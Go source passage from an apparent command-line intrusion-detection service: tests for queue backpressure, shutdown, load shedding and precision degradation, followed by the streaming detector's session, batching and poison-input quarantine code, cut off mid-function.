		t.Fatalf("scorer called %d times for an all-quarantined batch", got-before)
	}
}

// TestQuarantineSurvivesAbortedBatch: quarantine knowledge is cumulative —
// a later batch failing with a plain error rolls sessions back but keeps
// the quarantine set and panic counters.
func TestQuarantineSurvivesAbortedBatch(t *testing.T) {
	cfg := DefaultConfig()
	cfg.QuarantineScore = 0.5
	det := NewDetector(&poisonScorer{}, cfg)
	if _, err := det.Process([]Event{ev("a", 1, "POISON")}); err != nil {
		t.Fatal(err)
	}
	quarantined := det.Stats().QuarantinedInputs

	det.SwapScorer(&errScorer{}, "")
	if _, err := det.Process([]Event{ev("a", 2, "fine")}); err == nil {
		t.Fatal("errScorer batch succeeded")
	}
	if st := det.Stats(); st.QuarantinedInputs != quarantined {
		t.Fatalf("aborted batch changed QuarantinedInputs: %d -> %d", quarantined, st.QuarantinedInputs)
	}
}

// TestSubmitContextCancel: a Submit blocked on a full shard queue unblocks
// with the context's error when the deadline passes, without wedging the
// worker.
func TestSubmitContextCancel(t *testing.T) {
	sc := &slowScorer{gate: make(chan struct{})}
	det := NewDetector(sc, DefaultConfig())
	svc := NewService(det, ServiceConfig{QueueRequests: 1, BatchEvents: 1})
	var once sync.Once
	release := func() { once.Do(func() { close(sc.gate) }) }
	defer svc.Close()
	defer release()

	// First submit occupies the worker (blocked in Score), the next fills
	// the queue; both answered after the gate opens.
	var wg sync.WaitGroup
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			if _, err := svc.Submit([]Event{ev("u", int64(i), "x")}); err != nil {
				t.Errorf("pre-filled submit %d: %v", i, err)
			}
		}(i)
	}
	waitForQueueDepth(t, svc, 1)

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel()
	if _, err := svc.SubmitContext(ctx, []Event{ev("u", 9, "y")}); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("blocked SubmitContext returned %v, want DeadlineExceeded", err)
	}
	release()
	wg.Wait()
}

// TestCloseUnblocksBlockedSubmit is the shutdown-leak regression test: a
// producer blocked on a full shard queue during Close must unblock with
// ErrClosed, while every request accepted before Close still gets its
// verdicts.
func TestCloseUnblocksBlockedSubmit(t *testing.T) {
	sc := &slowScorer{gate: make(chan struct{})}
	det := NewDetector(sc, DefaultConfig())
	svc := NewService(det, ServiceConfig{QueueRequests: 1, BatchEvents: 1})

	var accepted sync.WaitGroup
	for i := 0; i < 2; i++ {
		accepted.Add(1)
		go func(i int) {
			defer accepted.Done()
			if _, err := svc.Submit([]Event{ev("u", int64(i), "x")}); err != nil {
				t.Errorf("accepted submit %d lost: %v", i, err)
			}
		}(i)
	}
	waitForQueueDepth(t, svc, 1)

	blocked := make(chan error, 1)
	go func() {
		_, err := svc.Submit([]Event{ev("u", 9, "y")})
		blocked <- err
	}()
	// Give the blocked producer time to actually park on the full queue.
	time.Sleep(20 * time.Millisecond)

	closed := make(chan struct{})
	go func() {
		svc.Close()
		close(closed)
	}()

	select {
	case err := <-blocked:
		if !errors.Is(err, ErrClosed) {
			t.Fatalf("blocked Submit returned %v, want ErrClosed", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Submit still blocked 5s after Close — shutdown leak")
	}

	close(sc.gate) // let the drain finish
	select {
	case <-closed:
	case <-time.After(5 * time.Second):
		t.Fatal("Close did not finish draining")
	}
	accepted.Wait()
	if _, err := svc.Submit([]Event{ev("u", 10, "z")}); !errors.Is(err, ErrClosed) {
		t.Fatalf("Submit after Close returned %v, want ErrClosed", err)
	}
}

// TestShedPolicy: with shed configured, a full queue rejects immediately
// with ErrOverloaded instead of blocking, and the rejection is counted.
func TestShedPolicy(t *testing.T) {
	sc := &slowScorer{gate: make(chan struct{})}
	det := NewDetector(sc, DefaultConfig())
	svc := NewService(det, ServiceConfig{
		QueueRequests: 1, BatchEvents: 1, Overload: OverloadShed,
	})
	defer svc.Close()

	var accepted sync.WaitGroup
	for i := 0; i < 2; i++ {
		accepted.Add(1)
		go func(i int) {
			defer accepted.Done()
			if _, err := svc.Submit([]Event{ev("u", int64(i), "x")}); err != nil {
				t.Errorf("accepted submit %d: %v", i, err)
			}
		}(i)
	}
	waitForQueueDepth(t, svc, 1)

	done := make(chan error, 1)
	go func() {
		_, err := svc.Submit([]Event{ev("u", 9, "y")})
		done <- err
	}()
	select {
	case err := <-done:
		if !errors.Is(err, ErrOverloaded) {
			t.Fatalf("overloaded Submit returned %v, want ErrOverloaded", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("shed policy blocked instead of rejecting")
	}
	if st := svc.Stats(); st.ShedRequests < 1 || st.OverloadPolicy != "shed" {
		t.Fatalf("shed not surfaced in stats: %+v", st)
	}
	close(sc.gate)
	accepted.Wait()
}

// precScorer is a Replicable PrecisionSwitcher stub: it scores every line
// with a constant and remembers which rung it serves at, so degradation
// tests can watch the ladder without a real model. The gate (shared by
// every replica and rung variant) lets tests hold a batch in flight.
type precScorer struct {
	prec  model.Precision
	gate  *faults.Gate // nil = never blocks
	score float64
}

func (p *precScorer) Score(lines []string) ([]float64, error) {
	if p.gate != nil {
		p.gate.Wait()
	}
	out := make([]float64, len(lines))
	for i := range out {
		out[i] = p.score
	}
	return out, nil
}

func (p *precScorer) Replicate() tuning.Scorer { c := *p; return &c }

func (p *precScorer) Precision() model.Precision { return p.prec }

func (p *precScorer) AtPrecision(prec model.Precision) (tuning.Scorer, error) {
	if !prec.Valid() {
		return nil, fmt.Errorf("bad precision %q", prec)
	}
	c := *p
	c.prec = prec
	return &c, nil
}

// TestDegradePolicyDownshiftAndRecover drives the hysteresis clock
// deterministically through PollOverload: sustained saturation walks the
// shard down the ladder to int8, sustained calm walks it back to float64,
// and verdicts keep flowing throughout.
func TestDegradePolicyDownshiftAndRecover(t *testing.T) {
	gate := &faults.Gate{}
	gate.Hold()
	sc := &precScorer{prec: model.PrecisionFloat64, gate: gate, score: 0.1}
	det := NewDetector(sc, DefaultConfig())
	cfg := ServiceConfig{
		QueueRequests: 2, BatchEvents: 1,
		Overload: OverloadDegrade,
		// The monitor's own ticks must not interfere with the synthetic
		// clock below.
		OverloadTick: time.Hour,
	}
	cfg = cfg.withDefaults()
	svc := NewService(det, cfg)
	defer svc.Close()

	// Saturate: one request in flight (blocked on the gate), two queued.
	var wg sync.WaitGroup
	for i := 0; i < 3; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			if _, err := svc.Submit([]Event{ev("u", int64(i), "x")}); err != nil {
				t.Errorf("submit %d: %v", i, err)
			}
		}(i)
	}
	waitForQueueDepth(t, svc, 2)

	t0 := time.Now()
	svc.PollOverload(t0) // arms the overload clock
	shifted := make(chan struct{})
	go func() {
		// This sweep decides to downshift and blocks in SwapScorer until
		// the in-flight batch commits.
		svc.PollOverload(t0.Add(cfg.DegradeAfter))
		close(shifted)
	}()
	time.Sleep(10 * time.Millisecond)
	gate.Release()
	select {
	case <-shifted:
	case <-time.After(5 * time.Second):
		t.Fatal("downshift sweep never completed")
	}
	wg.Wait()

	st := svc.Stats()
	if st.DegradedShards != 1 || !st.Shards[0].Degraded {
		t.Fatalf("shard not degraded after sustained overload: %+v", st.Shards[0])
	}
	if st.Shards[0].Precision != string(model.PrecisionFloat32) || st.Shards[0].Downshifts != 1 {
		t.Fatalf("first downshift: precision %q downs %d, want float32/1",
			st.Shards[0].Precision, st.Shards[0].Downshifts)
	}

	// A calm sweep resets the overload clock (each rung needs its own
	// sustained stretch), then a second saturation: float32 → int8.
	svc.PollOverload(time.Now())
	gate.Hold()
	for i := 3; i < 6; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			if _, err := svc.Submit([]Event{ev("u", int64(i), "x")}); err != nil {
				t.Errorf("submit %d: %v", i, err)
			}
		}(i)
	}
	waitForQueueDepth(t, svc, 2)
	t1 := time.Now()
	svc.PollOverload(t1)
	shifted = make(chan struct{})
	go func() {
		svc.PollOverload(t1.Add(cfg.DegradeAfter))
		close(shifted)
	}()
	time.Sleep(10 * time.Millisecond)
	gate.Release()
	select {
	case <-shifted:
	case <-time.After(5 * time.Second):
		t.Fatal("second downshift sweep never completed")
	}
	wg.Wait()
	if st := svc.Stats(); st.Shards[0].Precision != string(model.PrecisionInt8) {
		t.Fatalf("second downshift left precision %q, want int8", st.Shards[0].Precision)
	}

	// Recovery: calm sweeps walk back up one rung per RecoverAfter.
	t2 := time.Now()
	svc.PollOverload(t2)
	svc.PollOverload(t2.Add(cfg.RecoverAfter))
	if st := svc.Stats(); st.Shards[0].Precision != string(model.PrecisionFloat32) {
		t.Fatalf("first recovery left precision %q, want float32", st.Shards[0].Precision)
	}
	t3 := t2.Add(cfg.RecoverAfter)
	svc.PollOverload(t3.Add(cfg.RecoverAfter))
	st = svc.Stats()
	if st.Shards[0].Precision != string(model.PrecisionFloat64) || st.Shards[0].Degraded {
		t.Fatalf("recovery incomplete: %+v", st.Shards[0])
	}
	if st.Shards[0].Upshifts != 2 || st.Shards[0].Downshifts != 2 {
		t.Fatalf("shift counters %d down / %d up, want 2/2", st.Shards[0].Downshifts, st.Shards[0].Upshifts)
	}
	if st.DegradedShards != 0 {
		t.Fatalf("DegradedShards = %d after recovery", st.DegradedShards)
	}

	// The service still serves, at native precision.
	vs, err := svc.Submit([]Event{ev("u", 99, "done")})
	if err != nil || len(vs) != 1 || vs[0].LineScore != 0.1 {
		t.Fatalf("post-recovery submit: %v %+v", err, vs)
	}
}

// TestSwapScorerResetsDegradation: a hot reload under the degrade policy
// rebinds the ladder to the incoming scorer — the new artifact serves at
// its native rung with fresh shift counters.
func TestSwapScorerResetsDegradation(t *testing.T) {
	sc := &precScorer{prec: model.PrecisionFloat64, score: 0.1}
	det := NewDetector(sc, DefaultConfig())
	cfg := ServiceConfig{QueueRequests: 2, BatchEvents: 1, Overload: OverloadDegrade, OverloadTick: time.Hour}
	cfg = cfg.withDefaults()
	svc := NewService(det, cfg)
	defer svc.Close()

	// Degrade by hand: force the hysteresis through two sweeps with the
	// queue artificially saturated via a held gate.
	gate := &faults.Gate{}
	gate.Hold()
	sc.gate = gate
	var wg sync.WaitGroup
	for i := 0; i < 3; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			svc.Submit([]Event{ev("u", int64(i), "x")})
		}(i)
	}
	waitForQueueDepth(t, svc, 2)
	t0 := time.Now()
	svc.PollOverload(t0)
	done := make(chan struct{})
	go func() { svc.PollOverload(t0.Add(cfg.DegradeAfter)); close(done) }()
	time.Sleep(10 * time.Millisecond)
	gate.Release()
	<-done
	wg.Wait()
	if st := svc.Stats(); !st.Shards[0].Degraded {
		t.Fatal("setup failed to degrade the shard")
	}

	next := &precScorer{prec: model.PrecisionFloat64, score: 0.2}
	if err := svc.SwapScorer(next, "v2"); err != nil {
		t.Fatal(err)
	}
	st := svc.Stats()
	if st.Shards[0].Degraded || st.Shards[0].Precision != string(model.PrecisionFloat64) {
		t.Fatalf("reload did not reset degradation: %+v", st.Shards[0])
	}
	if st.Shards[0].Downshifts != 0 {
		t.Fatalf("reload kept old shift counters: %+v", st.Shards[0])
	}
	vs, err := svc.Submit([]Event{ev("u", 50, "y")})
	if err != nil || vs[0].LineScore != 0.2 {
		t.Fatalf("new scorer not serving after reload: %v %+v", err, vs)
	}
}

// waitForQueueDepth spins until the single-shard service's queue holds n
// requests (the in-flight one does not count).
func waitForQueueDepth(t *testing.T, svc *Service, n int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if svc.Stats().QueueDepth >= n {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("queue never reached depth %d", n)
		}
		time.Sleep(time.Millisecond)
	}
}
