// Package stream is the online serving layer of the IDS: it ingests
// timestamped (user, line) events, maintains sliding per-user session
// windows, scores incrementally through a Scorer (in deployment an
// LRU-cached inference engine), and aggregates line scores into
// session-level verdicts.
//
// The paper's setting is ~30M command lines per day streaming in from
// ~100k machines; the detection methods of §IV score static batches. This
// package closes that gap with two pieces:
//
//   - Detector: the synchronous core. Process consumes an ordered slice of
//     events, updates session state, and returns one Verdict per event.
//     Scoring inside a batch is deduplicated and issued as a single Score
//     call, so the engine's batching and cache do the heavy lifting.
//   - Service (service.go): the asynchronous front. A bounded queue with
//     blocking backpressure, a coalescing worker that merges small requests
//     into full scoring batches, and a graceful drain on Close.
//
// Session semantics: a session is a per-user run of events whose
// event-time gaps stay within IdleTimeout; a larger gap closes the session
// and starts a fresh one. Within a session, only the most recent
// MaxSessionLines events are retained (sliding window). When ContextWindow
// is greater than one, each event is scored as the join of its most recent
// in-gap session lines — the §IV-C multi-line input built online — so
// attack chains whose individual lines look benign still produce a high
// context score, and the session aggregate (max / mean / exponential
// decay) trips the session alarm.
package stream

import (
	"fmt"
	"strings"
	"sync"
	"sync/atomic"

	"clmids/internal/tuning"
)

// Event is one logged command line entering the detector.
type Event struct {
	// User is the account (or machine) that issued the line; sessions are
	// keyed by it.
	User string `json:"user"`
	// Time is the execution time in Unix seconds. Sessionization uses
	// event time, not wall-clock arrival, so replayed logs behave exactly
	// like live traffic.
	Time int64 `json:"time"`
	// Line is the raw command line.
	Line string `json:"line"`
}

// Aggregation selects how per-line scores combine into a session score.
type Aggregation int

// Session aggregation modes.
const (
	// AggMax scores a session by its most suspicious line.
	AggMax Aggregation = iota
	// AggMean scores a session by the mean over its window.
	AggMean
	// AggDecay scores a session by an exponentially decayed weighted mean:
	// the newest line has weight 1, each step back multiplies by Decay.
	// Low Decay approaches AggMax on the newest line; Decay 1 is AggMean.
	AggDecay
)

// String renders the aggregation mode (the clmserve/-follow flag values).
func (a Aggregation) String() string {
	switch a {
	case AggMax:
		return "max"
	case AggMean:
		return "mean"
	case AggDecay:
		return "decay"
	default:
		return fmt.Sprintf("Aggregation(%d)", int(a))
	}
}

// ParseAggregation converts a flag value into an Aggregation.
func ParseAggregation(s string) (Aggregation, error) {
	switch s {
	case "max":
		return AggMax, nil
	case "mean":
		return AggMean, nil
	case "decay":
		return AggDecay, nil
	default:
		return 0, fmt.Errorf("stream: unknown aggregation %q (want max | mean | decay)", s)
	}
}

// Config controls sessionization, context building, aggregation, and
// alert thresholds. The zero value is completed by defaults (see
// DefaultConfig); thresholds of 0 disable the corresponding alert.
type Config struct {
	// ContextWindow is the number of session lines (including the current
	// one) joined into each scoring input, the §IV-C multi-line input
	// built online. 1 scores every line alone. Default 1.
	ContextWindow int
	// ContextGap is the largest event-time gap in seconds between
	// consecutive context lines; older lines are not attached (the paper:
	// lines "whose execution time is too long ago"). Default 600.
	ContextGap int64
	// IdleTimeout is the event-time gap in seconds that closes a session.
	// Default 1800.
	IdleTimeout int64
	// MaxSessionLines bounds the per-session sliding window. Default 64.
	MaxSessionLines int
	// Aggregation combines window line scores into the session score.
	Aggregation Aggregation
	// Decay is the per-step weight multiplier for AggDecay, in (0, 1].
	// Default 0.7.
	Decay float64
	// LineThreshold fires a LineAlert when a raw line's own score reaches
	// it — what a per-line detector would flag. 0 disables.
	LineThreshold float64
	// SessionThreshold fires a SessionAlert when the session score reaches
	// it. 0 disables.
	SessionThreshold float64
	// QuarantineScore is the score assigned to quarantined (poison) scoring
	// inputs — lines the scorer reproducibly panics on. The default 0 is
	// neutral: a quarantined line neither trips alerts nor dilutes session
	// aggregates upward.
	QuarantineScore float64
	// MaxQuarantine bounds the remembered poison-input set; beyond it,
	// poison lines are still isolated per batch (and counted) but not
	// remembered across batches. Default 1024.
	MaxQuarantine int
}

// DefaultConfig returns the deployment defaults: single-line scoring,
// 10-minute context gap, 30-minute sessions, 64-line windows, decayed
// aggregation. Thresholds stay 0 (disabled) because score scales are
// method-specific; services must set them explicitly.
func DefaultConfig() Config {
	return Config{
		ContextWindow:   1,
		ContextGap:      600,
		IdleTimeout:     1800,
		MaxSessionLines: 64,
		Aggregation:     AggDecay,
		Decay:           0.7,
	}
}

func (c Config) withDefaults() Config {
	if c.ContextWindow <= 0 {
		c.ContextWindow = 1
	}
	if c.ContextGap <= 0 {
		c.ContextGap = 600
	}
	if c.IdleTimeout <= 0 {
		c.IdleTimeout = 1800
	}
	if c.MaxSessionLines <= 0 {
		c.MaxSessionLines = 64
	}
	if c.Decay <= 0 || c.Decay > 1 {
		c.Decay = 0.7
	}
	if c.MaxQuarantine <= 0 {
		c.MaxQuarantine = 1024
	}
	return c
}

// Verdict is the detector's output for one event.
type Verdict struct {
	User string `json:"user"`
	Time int64  `json:"time"`
	Line string `json:"line"`
	// Context is the joined multi-line scoring input when ContextWindow >
	// 1 and context lines were attached; empty otherwise.
	Context string `json:"context,omitempty"`
	// LineScore is the score of the raw line alone — what a per-line
	// detector would see.
	LineScore float64 `json:"line_score"`
	// ContextScore is the score of the context-joined input (equal to
	// LineScore when no context was attached); it is what enters the
	// session aggregate.
	ContextScore float64 `json:"context_score"`
	// SessionScore is the aggregate over the session window as of this
	// event.
	SessionScore float64 `json:"session_score"`
	// SessionLines is the number of lines in the window as of this event.
	SessionLines int `json:"session_lines"`
	// LineAlert and SessionAlert report threshold crossings.
	LineAlert    bool `json:"line_alert"`
	SessionAlert bool `json:"session_alert"`
}

// Stats is a snapshot of detector counters.
type Stats struct {
	// Events is the number of events processed.
	Events int64 `json:"events"`
	// ScoredInputs is the number of unique strings handed to the scorer
	// (after within-batch dedup; the engine dedups and caches further).
	ScoredInputs int64 `json:"scored_inputs"`
	// LineAlerts and SessionAlerts count threshold crossings.
	LineAlerts    int64 `json:"line_alerts"`
	SessionAlerts int64 `json:"session_alerts"`
	// SessionsStarted counts sessions opened (first event or idle
	// restart); SessionsIdleClosed counts sessions closed by an in-stream
	// idle gap; SessionsEvicted counts sessions removed by EvictIdle.
	SessionsStarted    int64 `json:"sessions_started"`
	SessionsIdleClosed int64 `json:"sessions_idle_closed"`
	SessionsEvicted    int64 `json:"sessions_evicted"`
	// ActiveSessions is the live session count at snapshot time.
	ActiveSessions int `json:"active_sessions"`
	// ScorerPanics counts scorer panics recovered by the batch pipeline.
	// Cumulative resilience knowledge: never rolled back by an abort.
	ScorerPanics int64 `json:"scorer_panics,omitempty"`
	// QuarantinedInputs counts scoring inputs isolated as poison (the
	// scorer reproducibly panicked on them alone); QuarantineHits counts
	// scores served from quarantine without touching the scorer.
	QuarantinedInputs int64 `json:"quarantined_inputs,omitempty"`
	QuarantineHits    int64 `json:"quarantine_hits,omitempty"`
	// QuarantineSample holds the most recently quarantined inputs (bounded
	// to a handful), so /stats shows what the poison looks like.
	QuarantineSample []string `json:"quarantine_sample,omitempty"`
	// Cascade is the per-rung traffic split when the active scorer is a
	// scoring cascade (tuning.CascadeStatser): how many scoring inputs the
	// rarity pre-filter cleared, the int8 triage rung scored, and the f64
	// confirm rung re-scored. Nil for non-cascade scorers.
	Cascade *tuning.CascadeStats `json:"cascade,omitempty"`
	// ScorerVersion identifies the active scorer artifact (the bundle
	// version for bundle-loaded scorers); empty when never set. Set at
	// construction time via SwapScorer or ShardedDetector.SetScorerVersion.
	ScorerVersion string `json:"scorer_version,omitempty"`
	// Modality names the log modality the active scorer was trained for
	// (the bundle manifest's modality); empty when never set. The reload
	// path rejects modality-mismatched bundles, so this is stable for the
	// life of the service.
	Modality string `json:"modality,omitempty"`
}

// entry is one retained window line.
type entry struct {
	time  int64
	line  string
	score float64 // context score; filled in after batch scoring
}

// session is the per-user sliding window.
type session struct {
	last    int64
	entries []entry
}

// Detector is the synchronous streaming core. Methods are safe for
// concurrent use; Process calls serialize on a pipeline mutex (scoring
// parallelism lives inside the engine-backed scorer, not across batches),
// which also keeps per-user event order deterministic. Session and
// counter state sits behind a separate short-lived mutex so Stats and
// EvictIdle never block behind an in-flight scoring call.
type Detector struct {
	scorer tuning.Scorer
	cfg    Config

	procMu sync.Mutex // serializes Process end to end

	mu        sync.Mutex // guards sessions + stats, never held while scoring
	sessions  map[string]*session
	stats     Stats
	highWater int64  // latest event time seen, for event-time EvictIdle sweeps
	version   string // active scorer artifact version, surfaced in Stats
	modality  string // log modality the scorer serves, surfaced in Stats

	// Poison quarantine: scoring inputs the scorer reproducibly panicked
	// on, isolated by batch bisection. quar is guarded by mu; quarLen
	// mirrors len(quar) atomically so the hot scoring path can skip the
	// lock entirely while the quarantine is empty (the steady state).
	quar        map[string]struct{}
	quarLen     atomic.Int64
	quarSamples []string
}

// quarSampleCap bounds the surfaced poison-line samples per detector.
const quarSampleCap = 4

// NewDetector wraps a scorer with session-aware streaming state. For
// deployment the scorer should hold a persistent cached inference engine
// (core.BuildScorer constructs those).
func NewDetector(scorer tuning.Scorer, cfg Config) *Detector {
	return &Detector{
		scorer:   scorer,
		cfg:      cfg.withDefaults(),
		sessions: make(map[string]*session),
	}
}

// pending records one event's window snapshot between the state pass and
// the verdict pass.
type pending struct {
	sess *session
	idx  int // entry index at snapshot time
	lo   int // window start at snapshot time
	raw  int // scoring-input index of the raw line
	ctx  int // scoring-input index of the context join
	ctxS string
}

// sessUndo snapshots one user's pre-batch session state so a scoring
// failure can roll the batch's mutations back instead of leaving
// zero-scored entries in the windows.
type sessUndo struct {
	user string
	prev *session // map value before the batch (nil = absent)
	len  int      // prev's entry count before the batch
	last int64    // prev's last-event time before the batch
}

// Process consumes events in order and returns one verdict per event.
// Events must be time-ordered per user (the natural log order); distinct
// users interleave freely. On scorer error the batch's session mutations
// are rolled back (events still count in Stats) and the error is
// returned, so a transient failure neither dilutes session aggregates
// with zero scores nor grows windows past their cap — a producer may
// safely retry the same events.
//
// A panicking scorer does not propagate: the panic is recovered, the batch
// bisected to isolate the poison input, which is quarantined (scored at
// QuarantineScore, counted and sampled in Stats, skipped in future
// batches), and the batch commits normally — the detector keeps serving.
func (d *Detector) Process(events []Event) ([]Verdict, error) {
	if len(events) == 0 {
		return nil, nil
	}
	b := d.begin(events)
	// A panicking scorer must not leave the pipeline mutex held and the
	// batch half-applied: roll back before the panic propagates, so a
	// caller that recovers still has a usable detector.
	defer func() {
		if !b.finished {
			b.abort()
		}
	}()
	if err := b.score(); err != nil {
		b.abort()
		return nil, err
	}
	return b.commit(), nil
}

// procBatch is one batch's in-flight state between the sessionize pass
// and the verdict pass. The three phases — begin (sessionize + build
// inputs), score, then commit or abort — are split out so a sharded
// detector can two-phase commit across shards: every shard scores before
// any shard commits, and one shard's failure aborts all of them. begin
// acquires the detector's pipeline mutex; exactly one of commit or abort
// must follow to release it (Go mutexes are not goroutine-affine, so the
// committing goroutine need not be the beginning one).
type procBatch struct {
	d      *Detector
	events []Event
	inputs []string
	pend   []pending
	undos  []sessUndo
	scores []float64

	started, idleClosed int64 // this batch's share, for abort
	hwBefore            int64
	finished            bool // set by commit/abort; guards panic recovery
}

// begin runs pass 1 (under the state lock): sessionize, build scoring
// inputs (deduplicated), snapshot per-user undo state.
func (d *Detector) begin(events []Event) *procBatch {
	d.procMu.Lock()
	b := &procBatch{d: d, events: events}

	d.mu.Lock()
	b.hwBefore = d.highWater // only Process (procMu-serialized) writes it
	b.inputs = make([]string, 0, len(events))
	inputAt := make(map[string]int, len(events))
	intern := func(s string) int {
		if at, ok := inputAt[s]; ok {
			return at
		}
		inputAt[s] = len(b.inputs)
		b.inputs = append(b.inputs, s)
		return len(b.inputs) - 1
	}
	seen := make(map[string]bool)
	b.pend = make([]pending, len(events))
	for i, ev := range events {
		sess := d.sessions[ev.User]
		if !seen[ev.User] {
			seen[ev.User] = true
			u := sessUndo{user: ev.User, prev: sess}
			if sess != nil {
				u.len, u.last = len(sess.entries), sess.last
			}
			b.undos = append(b.undos, u)
		}
		if sess == nil {
			sess = &session{}
			d.sessions[ev.User] = sess
			b.started++
		} else if len(sess.entries) > 0 && ev.Time-sess.last > d.cfg.IdleTimeout {
			// Idle gap: close the session, open a fresh one. The old
			// object stays reachable from earlier pendings in this batch.
			sess = &session{}
			d.sessions[ev.User] = sess
			b.idleClosed++
			b.started++
		}
		sess.last = ev.Time
		sess.entries = append(sess.entries, entry{time: ev.Time, line: ev.Line})
		idx := len(sess.entries) - 1
		lo := idx + 1 - d.cfg.MaxSessionLines
		if lo < 0 {
			lo = 0
		}
		ctxS := d.contextJoin(sess, idx)
		b.pend[i] = pending{
			sess: sess, idx: idx, lo: lo,
			raw: intern(ev.Line), ctx: intern(ctxS), ctxS: ctxS,
		}
		if ev.Time > d.highWater {
			d.highWater = ev.Time
		}
	}

	d.stats.SessionsStarted += b.started
	d.stats.SessionsIdleClosed += b.idleClosed
	d.stats.ScoredInputs += int64(len(b.inputs))
	d.stats.Events += int64(len(events))
	d.mu.Unlock()
	return b
}

// score runs pass 2 (no state lock, so Stats/EvictIdle stay responsive):
// one batched scoring call for the whole request, hardened against a
// panicking scorer. Inputs already in quarantine are served the quarantine
// score without touching the scorer; a panic on the rest is recovered and
// the batch bisected to isolate the poison input (see scoreResilient).
// Plain scorer errors still abort the whole batch — they are transient and
// retryable, unlike a reproducible panic.
func (b *procBatch) score() error {
	d := b.d
	scores := make([]float64, len(b.inputs))
	live, liveIdx := b.inputs, []int(nil)
	if d.quarLen.Load() > 0 {
		live = make([]string, 0, len(b.inputs))
		liveIdx = make([]int, 0, len(b.inputs))
		var hits int64
		d.mu.Lock()
		for i, in := range b.inputs {
			if _, poison := d.quar[in]; poison {
				scores[i] = d.cfg.QuarantineScore
				hits++
				continue
			}
			live = append(live, in)
			liveIdx = append(liveIdx, i)
		}
		d.stats.QuarantineHits += hits
		d.mu.Unlock()
	}
	if len(live) > 0 {
		out := scores
		if liveIdx != nil {
			out = make([]float64, len(live))
		}
		if err := d.scoreResilient(live, out); err != nil {
			return fmt.Errorf("stream: scoring %d inputs: %w", len(b.inputs), err)
		}
		if liveIdx != nil {
			for k, i := range liveIdx {
				scores[i] = out[k]
			}
		}
	}
	b.scores = scores
	return nil
}

// callScorer invokes the scorer once, converting a panic into a flagged
// error so the pipeline can tell a crashing replica (isolate the poison)
// from a failing one (abort and retry). It also normalizes the
// wrong-length-result bug class into an error.
func callScorer(sc tuning.Scorer, inputs []string) (scores []float64, err error, panicked bool) {
	defer func() {
		if r := recover(); r != nil {
			scores, err, panicked = nil, fmt.Errorf("scorer panic: %v", r), true
		}
	}()
	scores, err = sc.Score(inputs)
	if err == nil && len(scores) != len(inputs) {
		err = fmt.Errorf("returned %d scores for %d inputs", len(scores), len(inputs))
	}
	return scores, err, false
}

// scoreResilient scores inputs into out (same length), recovering scorer
// panics: a panicking batch is bisected until the poison input is isolated,
// quarantined (counter + sample in Stats, remembered so future batches skip
// it), and given the quarantine score — the shard keeps serving. A panic
// that does not reproduce on the isolated input (a transient crash) costs
// one retry and quarantines nothing. Non-panic errors abort the whole
// batch, preserving the transient-failure retry contract.
func (d *Detector) scoreResilient(inputs []string, out []float64) error {
	sc := d.scorer // stable: procMu is held for the whole batch
	scores, err, panicked := callScorer(sc, inputs)
	if !panicked {
		if err != nil {
			return err
		}
		copy(out, scores)
		return nil
	}
	d.notePanic()
	return d.bisect(sc, inputs, out)
}

// bisect recursively splits a panicking batch to isolate poison inputs.
// Cost is O(log n) scorer calls per poison line, paid once: quarantined
// inputs never reach the scorer again.
func (d *Detector) bisect(sc tuning.Scorer, inputs []string, out []float64) error {
	if len(inputs) == 1 {
		// Retry once before condemning: only a reproducible panic
		// quarantines; a transient one just scores on the retry.
		scores, err, panicked := callScorer(sc, inputs)
		if panicked {
			d.notePanic()
			d.quarantine(inputs[0])
			out[0] = d.cfg.QuarantineScore
			return nil
		}
		if err != nil {
			return err
		}
		out[0] = scores[0]
		return nil
	}
	mid := len(inputs) / 2
	for _, h := range [2][2]int{{0, mid}, {mid, len(inputs)}} {
		in, o := inputs[h[0]:h[1]], out[h[0]:h[1]]
		scores, err, panicked := callScorer(sc, in)
		if panicked {
			d.notePanic()
			if err := d.bisect(sc, in, o); err != nil {
				return err
			}
			continue
		}
		if err != nil {
			return err
		}
		copy(o, scores)
	}
	return nil
}

// notePanic counts one recovered scorer panic. Like the quarantine set,
// this is cumulative operational knowledge, deliberately not rolled back
// when a batch later aborts.
func (d *Detector) notePanic() {
	d.mu.Lock()
	d.stats.ScorerPanics++
	d.mu.Unlock()
}

// quarantine remembers a poison input (bounded by MaxQuarantine) and
// records the counter + sample surfaced in Stats.
func (d *Detector) quarantine(input string) {
	d.mu.Lock()
	d.stats.QuarantinedInputs++
	if d.quar == nil {
		d.quar = make(map[string]struct{})
	}
	if _, dup := d.quar[input]; !dup && len(d.quar) < d.cfg.MaxQuarantine {
		d.quar[input] = struct{}{}
		d.quarLen.Store(int64(len(d.quar)))
	}
	if len(d.quarSamples) >= quarSampleCap {
		copy(d.quarSamples, d.quarSamples[1:])
		d.quarSamples = d.quarSamples[:quarSampleCap-1]
	}
	d.quarSamples = append(d.quarSamples, input)
	d.mu.Unlock()
}

// abort rolls the batch's session mutations back; the failed events still
// count in Events, everything else reverts by delta (a concurrent
// EvictIdle between the passes keeps its own increments).
func (b *procBatch) abort() {
	d := b.d
	d.mu.Lock()
	d.highWater = b.hwBefore
	d.stats.SessionsStarted -= b.started
	d.stats.SessionsIdleClosed -= b.idleClosed
	d.stats.ScoredInputs -= int64(len(b.inputs))
	for _, u := range b.undos {
		if u.prev == nil {
			delete(d.sessions, u.user)
			continue
		}
		d.sessions[u.user] = u.prev
		u.prev.entries = u.prev.entries[:u.len]
		u.prev.last = u.last
	}
	d.mu.Unlock()
	b.finished = true
	d.procMu.Unlock()
}

// commit runs pass 3 (state lock again): fill window scores in order,
// aggregate, emit verdicts.
func (b *procBatch) commit() []Verdict {
	d := b.d
	d.mu.Lock()
	out := make([]Verdict, len(b.events))
	for i, ev := range b.events {
		p := b.pend[i]
		ctxScore := b.scores[p.ctx]
		p.sess.entries[p.idx].score = ctxScore
		v := Verdict{
			User: ev.User, Time: ev.Time, Line: ev.Line,
			LineScore:    b.scores[p.raw],
